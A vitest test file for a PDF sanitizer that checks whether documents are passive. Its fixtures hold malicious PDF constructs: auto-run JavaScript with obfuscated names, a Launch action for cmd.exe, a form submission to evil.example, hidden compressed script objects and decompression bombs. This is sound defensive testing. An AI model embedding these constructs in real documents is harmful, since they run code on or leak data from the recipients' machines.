import { deflateSync } from 'node:zlib'
import { expect, test, vi } from 'vitest'
import { smallPdf } from '@/testing/shop/notices'
import { isPassivePdf } from './passive-pdf'

/** A PDF with more entries in its catalogue. */
const withEntries = (entries: string) =>
  Buffer.from(smallPdf.toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${entries}`), 'latin1')

/** A PDF with a stream. */
function withStream(dictionary: string, data: Buffer): Buffer {
  const end = smallPdf.indexOf('trailer')
  const stream = [
    `9 0 obj <<${dictionary}>>\nstream\n`,
    data.toString('latin1'),
    '\nendstream endobj\n',
  ].join('')
  return Buffer.concat([smallPdf.subarray(0, end), Buffer.from(stream, 'latin1'), smallPdf.subarray(end)])
}

const script = Buffer.from('4 0 <</S /JavaScript /JS (app.alert(1))>>')
const hidden = deflateSync(script)
const objects = '/Type /ObjStm /N 1 /First 4'
const filter = '/Filter /FlateDecode'

/** Streams of 2 MB each, whose checksum is wrong. */
const damaged = deflateSync(Buffer.alloc(2_000_000))
damaged.writeUInt8(1, damaged.length - 1)
const swelling = Buffer.concat(Array.from({ length: 100 }, () => [Buffer.from('stream\n'), damaged]).flat())

test.each([
  ['opens itself with a script', withEntries('/OpenAction <</S /JavaScript /JS (app.alert(1))>>')],
  ['spells the script’s name in another way', withEntries('/OpenAction <</S /J#61vaScr#69pt /JS (x)>>')],
  ['starts a program', withEntries('/OpenAction <</S /Launch /F (cmd.exe)>>')],
  ['has a file attached', withEntries('/Names <</EmbeddedFiles 9 0 R>>')],
  ['sends a form', withEntries('/AA <</WC <</S /SubmitForm /F (https://evil.example)>>>>')],
  ['has a form of XML', withEntries('/AcroForm <</XFA 9 0 R>>')],
  ['is encrypted', withEntries('/Encrypt 9 0 R')],
  ['has a script in a comment of a stream', withStream('/Length 9', script)],
  ['has a script among compressed objects', withStream(`${objects} ${filter}`, hidden)],
  ['has compressed objects that end early', withStream(`${objects} ${filter}`, hidden.subarray(0, -5))],
  [
    'has objects in another form',
    withStream(`${objects} /Filter /ASCIIHexDecode`, Buffer.from(script.toString('hex'))),
  ],
  [
    'has objects in another form, by another name',
    withStream('/Type /Obj#53tm /Filter /LZWDecode', Buffer.from('x')),
  ],
  [
    'mixes compressed objects',
    withStream(`${objects} ${filter} /DecodeParms <</Predictor 12>>`, deflateSync(Buffer.from('x'))),
  ],
  ['swells', withStream(filter, deflateSync(Buffer.alloc(65 * 1024 * 1024)))],
  ['swells in streams that are damaged', swelling],
  ['has very many streams', withEntries('stream\n'.repeat(2001))],
])('a PDF that %s is active', async (_, bytes) => expect(await isPassivePdf(bytes)).toBe(false))

test.each([
  ['nothing but a page', smallPdf],
  [
    'a place to open at, a link and a form',
    withEntries('/OpenAction [3 0 R /Fit] /AcroForm <<>> /A <</S /URI /URI (https://europa.eu)>>'),
  ],
  [
    'compressed contents and objects',
    withStream(`${objects} ${filter}`, deflateSync(Buffer.from('4 0 <</Type /Font>>'))),
  ],
  ['a picture', withStream('/Filter /DCTDecode', Buffer.from([0xff, 0xd8, 1, 2, 3]))],
])('a PDF with %s is passive', async (_, bytes) => expect(await isPassivePdf(bytes)).toBe(true))

test('E07 others go on while a PDF is looked through', async () => {
  const clock = vi.spyOn(performance, 'now').mockImplementation(() => clock.mock.calls.length * 10)
  let turns = 0
  let others = setImmediate(function another() {
    turns += 1
    others = setImmediate(another)
  })
  expect(await isPassivePdf(Buffer.from('#41'.repeat(1_000_000)))).toBe(true)
  clearImmediate(others)
  clock.mockRestore()
  expect(turns).toBeGreaterThan(3_000_000 / 100_000)
})
